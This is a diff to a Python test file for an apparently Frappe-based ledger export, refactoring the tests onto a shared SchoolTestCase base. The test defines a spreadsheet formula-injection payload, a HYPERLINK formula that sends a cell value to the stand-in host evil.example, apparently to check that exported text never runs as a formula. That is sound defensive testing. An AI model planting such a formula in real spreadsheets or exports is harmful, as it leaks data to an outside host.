@@ -5,20 +5,20 @@ a faithful round trip through Excel, and text that can never run as a formula.""
 import io
 
 import frappe
-from frappe.tests.utils import FrappeTestCase
 from openpyxl import load_workbook
 
 from socialmedia_governance.documents import ledger
-from socialmedia_governance.tests.factories import make_account, make_active, make_group, make_school
+from socialmedia_governance.tests.base import SchoolTestCase
+from socialmedia_governance.tests.factories import make_account, make_active, make_group
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
 
 
-class TestLedger(FrappeTestCase):
+class TestLedger(SchoolTestCase):
 	@classmethod
 	def setUpClass(cls):
 		super().setUpClass()
-		cls.s = s = make_school()
+		s = cls.s
 		admins = [{"user": s.u("admin_kj"), "admin_role": "Chief Administrator", "phone": "13800000000"}]
 		cls.mine = [
 			make_active(make_account(s.units["kj_class"], f"会计2301班-{i}", administrators=admins))
@@ -31,9 +31,6 @@ class TestLedger(FrappeTestCase):
 			make_group(s.units["kj_class"], s.u("owner_kj"), "会计2301班级群", member_count=45)
 		)
 		cls.units = [s.units["kj_class"], s.units["xx_class"]]
-
-	def tearDown(self):
-		frappe.set_user("Administrator")
 
 	def export(self, doctype, filters=None):
 		ledger.export_ledger(doctype, filters)
